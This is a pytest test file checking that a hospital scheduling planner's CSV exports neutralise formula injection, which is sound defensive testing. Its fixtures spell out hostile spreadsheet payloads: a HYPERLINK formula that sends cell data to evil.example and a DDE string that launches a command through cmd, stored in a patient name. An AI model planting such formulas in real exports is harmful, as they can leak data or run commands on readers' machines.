"""Every CSV the planner writes opens in a spreadsheet as text: a cell that would start a
formula (OWASP "CSV injection") is written with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date, time

import pytest

from planner.catalog import Catalog
from planner.core.batch import plan_schedules
from planner.core.booking import Booking
from planner.core.chairs import Chair, Occupancy, UnitResources
from planner.core.patient import Patient
from planner.core.plan import Plan
from planner.day_hospital.bookings import day_sheet, day_sheet_csv
from planner.export.unit import unit_csv, unit_sessions
from planner.i18n import speaking
from planner.spreadsheet import csv_lines, neutral
from planner.worklists.week import week_csv, week_sessions

MONDAY = date(2027, 3, 8)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_written_as_text(start: str) -> None:
    cell = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    assert neutral(cell) == "'" + cell
    rows = _table(csv_lines(["head"], [[cell]], delimiter=","))
    assert rows == [["head"], ["'" + cell]]


def test_other_cells_and_numbers_are_written_as_they_are() -> None:
    for cell in ("MARTIN Anne", "06 12 34 56 78", "C1 D1", "", " =spaced", "'quoted"):
        assert neutral(cell) == cell
    assert neutral(-3) == -3  # a number the planner wrote: a number, not a formula
    assert _table(csv_lines(["a", "b"], [[1, "x\r\ny"]], delimiter=";", bom=False), ";") == [
        ["a", "b"],
        ["1", "x\r\ny"],  # a line break inside a cell stays inside it
    ]


def _table(chunks: Iterator[bytes], delimiter: str = ",") -> list[list[str]]:
    text = b"".join(chunks).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


HOSTILE = Patient(
    "p",
    "=cmd|' /C calc'!A0",  # kept by an older version, which did not check names
    "@SUM(1+1)",
    "-2+3",
    contact="+33 6 12 34 56 78",
)


def test_no_export_carries_a_formula_from_a_name_a_number_or_a_chair(catalog: Catalog) -> None:
    resources = UnitResources(
        chairs=(Chair("=A1+1"), Chair("B")),
        hours=((time(8), time(18)),) * 5 + (None, None),
    )
    plan = Plan("p", HOSTILE, catalog.regimen("pembrolizumab-200-q3w"), MONDAY)
    schedules = plan_schedules([plan], ())
    unit = Occupancy(resources)
    unit.adopt({("p", (1, 1, 1)): Booking(time(9), 60, "=A1+1", MONDAY)})
    with speaking("en"):
        tables = {
            "unit": _table(unit_csv(unit_sessions(schedules, MONDAY, MONDAY, unit.bookings))),
            "day sheet": _table(
                day_sheet_csv(day_sheet(unit, schedules, MONDAY, today=MONDAY), numbers=True)
            ),
            "week": _table(week_csv(week_sessions(unit, schedules, MONDAY), numbers=True)),
        }
    for name, rows in tables.items():
        cells = [cell for row in rows[1:] for cell in row]
        assert any(cell.startswith("'=") for cell in cells), (name, rows)
        assert not [c for c in cells if c.startswith(tuple("=+-@\t\r"))], (name, rows)
